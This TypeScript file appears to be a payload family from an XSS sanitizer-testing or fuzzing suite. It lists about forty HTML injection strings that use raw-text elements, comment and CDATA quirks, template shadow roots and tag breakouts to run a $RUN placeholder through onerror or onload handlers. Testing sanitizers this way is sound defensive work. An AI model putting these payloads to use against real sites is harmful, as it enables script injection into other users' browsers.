import type { Family } from "./vector.ts";

const closing = ["title", "textarea", "style", "noscript", "xmp", "iframe", "noembed", "noframes", "template"] as const;

/** Elements whose content is text to one parser and markup to another, comments, and ends of what stands around a text. */
export const contexts: Family = {
  name: "contexts",
  speaks: "html",
  spells: [
    ...closing.map((tag) => `<${tag}><p title="</${tag}><img src=x: onerror=$RUN>">`),
    ...closing.map((tag) => `</${tag}><img src=x: onerror=$RUN>`),
    "<plaintext><img src=x: onerror=$RUN></plaintext>",
    "</plaintext><svg onload=$RUN>",
    "<listing>&lt;img src=x: onerror=$RUN&gt;</listing><svg onload=$RUN>",
    "<noscript><style></noscript><img src=x: onerror=$RUN></style>",
    "<template><script>$RUN</script></template><svg onload=$RUN>",
    "<template shadowrootmode=open><img src=x: onerror=$RUN></template>",
    "<div><template shadowrootmode=open><script>$RUN</script></template></div>",
    "<option><style></option></select><img src=x: onerror=$RUN></style>",
    "<!--><img src=x: onerror=$RUN>-->",
    "<!---><img src=x: onerror=$RUN>-->",
    "<!-- --!><img src=x: onerror=$RUN>-->",
    "<!--<!-- --><img src=x: onerror=$RUN>-->",
    "<!-->--><svg onload=$RUN>",
    "<!--[if IE]><script>$RUN</script><![endif]--><svg onload=$RUN>",
    "<![CDATA[<img src=x: onerror=$RUN>]]>",
    "<!DOCTYPE x [<!ENTITY y '<svg onload=$RUN>'>]>&y;<svg onload=$RUN>",
    "<?xml version='1.0'?><img src=x: onerror=$RUN>",
    "<?xml-stylesheet href='javascript:$RUN'?><svg onload=$RUN>",
    "<?php echo '<svg onload=$RUN>' ?>",
    "<%= '<svg onload=$RUN>' %>",
    "<!x><svg onload=$RUN>",
    "</x foo='><svg onload=$RUN>'>",
    "</ ><svg onload=$RUN>",
    "</div></div></section><svg onload=$RUN>",
    "</li></ol></section></antiphon-comments></body></html><svg onload=$RUN>",
    "</details></summary><img src=x: onerror=$RUN>",
    "</textarea></form><img src=x: onerror=$RUN>",
    "</a></p></span><svg onload=$RUN>",
  ],
};
